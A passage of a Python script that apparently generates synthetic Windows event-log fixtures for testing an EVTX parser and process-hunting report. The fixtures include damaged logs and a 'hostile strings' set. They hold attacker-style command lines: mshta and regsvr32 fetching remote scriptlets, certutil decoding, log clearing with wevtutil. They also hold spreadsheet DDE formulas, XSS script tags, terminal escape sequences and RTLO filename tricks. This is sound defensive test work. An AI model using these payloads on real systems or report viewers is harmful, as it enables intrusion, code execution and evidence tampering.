        p = Proc(W, 1000 + 4 * i, [S32 + 'cmd.exe', S32 + 'whoami.exe', S32 + 'rundll32.exe'][i % 3],
                 ['cmd.exe /c whoami', 'whoami /all', 'rundll32.exe C:\\Users\\alice\\AppData\\Local\\Temp\\a.dll,Start'][i % 3],
                 P['explorer'] if i % 2 else P['services'], '2024-03-04 12:00:%02d.%07d' % (i * 7, 1234567 * (i + 1) % 10000000),
                 integrity=['Medium', 'High', 'System'][i % 3], user=SYS if i == 2 else None)
        sec4688(L, p, 3000 + i, version=v, dt=0)
    # a version-2 event whose subject is SYSTEM but target is the user (runas-like)
    write('security-4688-versions.spec', L)

def schemas_sysmon():
    L = header('sysmon-schemas.spec', 'sysmon-schemas.evtx',
               'Sysmon EID 1, 3, 5 and 7 in an old and a new schema: fields differ in set and order, same process')
    p = Proc(W, 5120, S32 + 'mshta.exe', 'mshta.exe vbscript:Close(Execute("GetObject(""script:http://198.51.100.23/x.sct"")"))', P['explorer'],
             '2024-03-04 15:00:00.5000000', **ms('Microsoft (R) HTML Application host', 'MSHTA.EXE'))
    rid = 1
    for schema in ['old', 'new']:
        sysmon1(L, p, rid, schema); rid += 1
        sysmon3(L, p, rid, addsec(p.t, 1), '198.51.100.23', 80, sport=51000, schema=schema); rid += 1
        sysmon7(L, p, rid, addsec(p.t, 1.2), S32 + 'vbscript.dll', schema=schema); rid += 1
        sysmon5(L, p, rid, addsec(p.t, 3), schema=schema); rid += 1
    write('sysmon-schemas.spec', L)

def ignored():
    L = header('ignored-events.spec', 'ignored-events.evtx',
               'events a process hunter must skip: 4624 logon, Sysmon 11 file create, 4688 from a provider that is not Security-Auditing, Sysmon 1 id under another provider')
    h = HOSTS[W]
    sec4624(L, W, 50001, '2024-03-05 08:00:00.0000000', h['user'], h['sid'], h['logon'])
    sysmon_head(L, W, 11, 50002, '2024-03-05 08:00:01.0000000')
    for k, v in [('RuleName', '-'), ('UtcTime', '2024-03-05 08:00:01.000'), ('ProcessGuid', P['explorer'].guid),
                 ('ProcessId', '4512'), ('Image', 'C:\\Windows\\explorer.exe'),
                 ('TargetFilename', 'C:\\Users\\alice\\Downloads\\report.hta'), ('CreationUtcTime', '2024-03-05 08:00:01.000'),
                 ('User', 'CORP\\alice')]:
        d(L, k, v)
    L += ['', 'record', 'provider Contoso-Audit {0E5B8C0A-4F1D-4B9C-8E3A-2D7F6A5B4C3D}', 'eventid 4688',
          'level 4', 'task 0', 'keywords 0x80000000000000', 'time ' + T('2024-03-05 08:00:02.0000000'), 'recordid 50003',
          'pid 1500', 'tid 1504', 'channel Application', 'computer WKS01.corp.local', 'user -']
    d(L, 'NewProcessName', S32 + 'mshta.exe'); d(L, 'CommandLine', 'mshta.exe http://198.51.100.23/not-security.hta')
    L += ['', 'record', 'provider Application-Tracker', 'eventid 1', 'time ' + T('2024-03-05 08:00:03.0000000'),
          'recordid 50004', 'channel Application', 'computer WKS01.corp.local', 'user -']
    d(L, 'Image', S32 + 'regsvr32.exe'); d(L, 'CommandLine', 'regsvr32 /s /i:http://198.51.100.23/x.sct scrobj.dll')
    write('ignored-events.spec', L)

def cleared():
    L = header('security-cleared.spec', 'security-cleared.evtx',
               'a Security log cleared (1102, UserData LogFileCleared) with a gap in record ids before it')
    h = HOSTS[W]
    p1 = Proc(W, 6000, S32 + 'wevtutil.exe', 'wevtutil.exe cl Security', P['cmd2'], '2024-03-05 14:20:00.0000000', integrity='High')
    sec4688(L, P['msxsl'], 20170, dt=-0.4)
    # record ids 20171..20179 are missing
    sec4688(L, p1, 20180, dt=0)
    L += ['', 'record', 'provider eventlog', 'eventid 1102', 'time ' + T('2024-03-05 14:20:00.3000000'), 'recordid 20181',
          'pid 1220', 'tid 5520', 'channel Security', 'computer ' + h['fqdn'], 'user -',
          'userdata LogFileCleared http://manifests.microsoft.com/win/2004/08/windows/eventlog']
    d(L, 'SubjectUserSid', h['sid']); d(L, 'SubjectUserName', 'alice'); d(L, 'SubjectDomainName', 'CORP')
    d(L, 'SubjectLogonId', h['logon'])
    write('security-cleared.spec', L)

def system104():
    L = header('system-cleared.spec', 'system-cleared.evtx', 'the System log: a service install (7045) and the System log cleared (104)')
    h = HOSTS[R]
    L += ['', 'record', 'provider Service Control Manager {555908d1-a6d7-4695-8e1e-26931d2012f4}', 'eventid 7045',
          'qualifiers 16384', 'level 4', 'task 0', 'keywords 0x8080000000000000', 'time ' + T('2024-03-06 11:31:00.0000000'),
          'recordid 4410', 'pid 640', 'tid 2120', 'channel System', 'computer ' + h['fqdn'], 'user ' + h['sid']]
    d(L, 'ServiceName', 'UpdSvc'); d(L, 'ImagePath', '%COMSPEC% /c C:\\Users\\svc-admin\\AppData\\Local\\Temp\\svc.exe')
    d(L, 'ServiceType', 'user mode service'); d(L, 'StartType', 'demand start'); d(L, 'AccountName', 'LocalSystem')
    L += ['', 'record', 'provider eventlog', 'eventid 104', 'time ' + T('2024-03-06 11:40:00.0000000'), 'recordid 4411',
          'pid 1100', 'tid 4040', 'channel System', 'computer ' + h['fqdn'], 'user ' + h['sid'],
          'userdata LogFileCleared http://manifests.microsoft.com/win/2004/08/windows/eventlog']
    d(L, 'SubjectUserName', 'svc-admin'); d(L, 'SubjectDomainName', 'CORP'); d(L, 'Channel', 'System')
    d(L, 'BackupPath', '')
    write('system-cleared.spec', L)

def forwarded(name, out, comment):
    L = header(name, out, comment)
    rid = 0
    # WEC: records from both hosts and channels, each keeps its own channel and record id
    items = [('s', P['mshta1'], 5020), ('4', P['mshta1'], 20131), ('s', Q['wmic'], 911), ('4', Q['wmic'], 77007),
             ('s', P['regsvr_bad'], 5024), ('s', Q['cmstp'], 913), ('4', Q['odbcconf'], 77009)]
    items.sort(key=lambda x: x[1].t)
    for kind, p, r in items:
        if kind == 's':
            sysmon1(L, p, r, 'new' if p.host == W else 'old')
        else:
            sec4688(L, p, r, version=2 if p.host == W else 1)
        L.append('# forwarded: ' + p.host)
    write(name, L)

wks_sysmon(); wks_security(); srv_sysmon(); srv_security(); versions_4688(); schemas_sysmon()
ignored(); cleared(); system104()
forwarded('forwarded-events.spec', 'wec/ForwardedEvents.evtx', 'a Windows Event Collector log: Sysmon and Security records of WKS01 and SRV02 mixed, channel and record id from each source')
forwarded('forwarded-log.spec', 'wec/forwarded.log', 'the same forwarded records in a file not named .evtx: recognised by its ElfFile signature')

# ---------------- bad/ ----------------
def small(L, n=4, start=7001, first='2024-03-05 09:00:00.0000000', newchunk_at=()):
    base = P['cmd2']
    for i in range(n):
        p = Proc(W, 9500 + 4 * i, S32 + ['rundll32.exe', 'cmd.exe', 'regsvr32.exe', 'mshta.exe'][i % 4],
                 ['rundll32.exe C:\\Users\\alice\\AppData\\Local\\Temp\\x%d.dll,#%d' % (i, i + 1),
                  'cmd.exe /c echo %d' % i, 'regsvr32.exe /s /i:http://198.51.100.23/%d.sct scrobj.dll' % i,
                  'mshta.exe http://198.51.100.23/%d.hta' % i][i % 4], base, addsec(first, 10 * i))
        sysmon1(L, p, start + i)
        if i in newchunk_at:
            # the record line is 'record': mark it as starting a new chunk
            idx = max(j for j, l in enumerate(L) if l == 'record')
            L[idx] = 'record newchunk'

def bad(name, comment, extra, n=4, **kw):
    L = header('bad/' + name + '.spec', 'bad/' + name + '.evtx', comment, extra)
    small(L, n, **kw)
    write('bad-' + name + '.spec', L)

bad('dirty', 'a log not closed cleanly: header flag dirty (0x1); records are fine', ['file dirty'])
bad('chunk-crc', 'two chunks; the records CRC32 of chunk 1 is wrong', ['mutate chunk-crc 1'], n=6, newchunk_at=(3,))
bad('chunk-header-crc', 'two chunks; the header CRC32 of chunk 0 is wrong', ['mutate chunk-header-crc 0'], n=6, newchunk_at=(3,))
bad('truncated', 'two chunks, the file cut in the middle of chunk 1 (after its first record)',
    ['mutate truncate %d' % (4096 + 65536 + 4000)], n=6, newchunk_at=(3,))
bad('broken-binxml', 'one chunk of 5 records, record 2 has an unknown binary XML token where its template instance starts; the chunk CRCs are right',
    ['mutate binxml 2'], n=5)
bad('header-damage', 'the file header is garbage after its signature (wrong CRC, chunk count, versions); the chunks are sound',
    ['mutate header-damage'], n=4)
bad('slack-record', 'records 7001..7003 are allocated; 7004 sits in the slack after the free space offset (recoverable)', [], n=4)
# mark the last record slack
L = open(os.path.join(OUT, 'bad-slack-record.spec')).read().split('\n')
idx = max(j for j, l in enumerate(L) if l == 'record'); L[idx] = 'record slack'
open(os.path.join(OUT, 'bad-slack-record.spec'), 'w').write('\n'.join(L))
bad('hidden-chunk', 'three chunks but the header counts two: chunk 2 (records 7005, 7006) is past the header (recoverable)',
    ['file hidden-chunks 1'], n=6, newchunk_at=(2, 4))
write('bad-zero-records.spec', header('bad/zero-records.spec', 'bad/zero-records.evtx',
      'a valid log with no records (one empty chunk, as a new log has)', []))

def hostile():
    L = header('bad/hostile-strings.spec', 'bad/hostile-strings.evtx',
               'valid EVTX whose strings attack the report: terminal escapes, spreadsheet formulas, HTML, bidi, control characters, invalid UTF-16 (lone surrogates)',
               ['# edata lines use escapes: \\e is ESC, \\a BEL, \\uXXXX one UTF-16 unit'])
    vals = [
        ('edata', 'rundll32.exe \\e[2J\\e[1;31mC:\\\\evil.dll\\e[0m,#1'),
        ('edata', 'mshta.exe \\e]52;c;Y2FsYy5leGU=\\a http://198.51.100.23/a.hta'),
        ('edata', 'cmd.exe /c \\e]0;Totally benign\\a\\e]2;title\\e\\\\ whoami'),
        ('data', "=cmd|' /C calc'!A0"),
        ('data', '+cmd|\' /C notepad\'!A0'),
        ('data', '-2+3+cmd|\' /C calc\'!A0'),
        ('data', '@SUM(1+1)*cmd|\' /C calc\'!A0'),
        ('data', '</script><script>alert(1)</script><img src=x onerror=alert(2)>'),
        ('data', 'regsvr32.exe "a<b>&c" \'q\' /i:http://198.51.100.23/x.sct scrobj.dll'),
        ('edata', 'certutil.exe -decode a.b64 b.exe\\r\\n=HYPERLINK("http://198.51.100.23")\\tX'),
        ('edata', 'C:\\\\Users\\\\alice\\\\AppData\\\\Local\\\\Temp\\\\invoice\\u202Efdp.exe'),
        ('edata', 'rundll32.exe bad\\uD800half.dll,#1 and \\uDC00 low'),
        ('data', 'powershell.exe -enc ☃ 日本語 ünïcödé'),
        ('edata', 'cmd.exe /c echo \\x01\\x02\\x7f\\x1b\\x08done'),
    ]
    for i, (kind, cmd) in enumerate(vals):
        p = Proc(W, 9800 + 4 * i, S32 + ['rundll32.exe', 'mshta.exe', 'cmd.exe'][i % 3], 'X', P['cmd2'],
                 addsec('2024-03-05 16:00:00.0000000', 5 * i))
        sysmon1(L, p, 8001 + i)
        j = max(k for k, l in enumerate(L) if l.startswith('data CommandLine='))
        L[j] = '%s CommandLine=%s' % (kind, cmd)
    # the same strings in 4688 (Security) form, and as an Image path
    p = Proc(W, 9990, S32 + 'mshta.exe', 'X', P['cmd2'], '2024-03-05 16:05:00.0000000')
    sec4688(L, p, 8100, dt=0)
    j = max(k for k, l in enumerate(L) if l.startswith('data CommandLine='))
    L[j] = 'edata CommandLine=mshta.exe \\e]52;c;cG93bmVk\\a \\e[8mhidden\\e[0m =cmd|\' /C calc\'!A0 </script><script>alert(1)</script>'
    j = max(k for k, l in enumerate(L) if l.startswith('data NewProcessName='))
    L[j] = 'edata NewProcessName=C:\\\\Windows\\\\System32\\\\mshta.exe\\e[0m'
    write('bad-hostile-strings.spec', L)
hostile()

def lone_end():
    L = header('bad/lone-surrogate-end.spec', 'bad/lone-surrogate-end.evtx',
               'strings that end in a lone high surrogate, hold U+0000, or a non-BMP character: libevtx 20181227 cannot render them right',
               ['verify drift-only'])
    for i, cmd in enumerate(['rundll32.exe x.dll,#1 \\uD83D', 'powershell.exe -enc 😀 (U+1F600: libevtx 20181227 prints U+1F201)', 'cmd.exe /c echo a\\u0000b', 'ok.exe']):
        p = Proc(W, 9900 + 4 * i, S32 + 'cmd.exe', 'X', P['cmd2'], addsec('2024-03-05 17:00:00.0000000', i))
        sysmon1(L, p, 8201 + i)
        j = max(k for k, l in enumerate(L) if l.startswith('data CommandLine='))
        L[j] = 'edata CommandLine=' + cmd
    write('bad-lone-surrogate-end.spec', L)
lone_end()
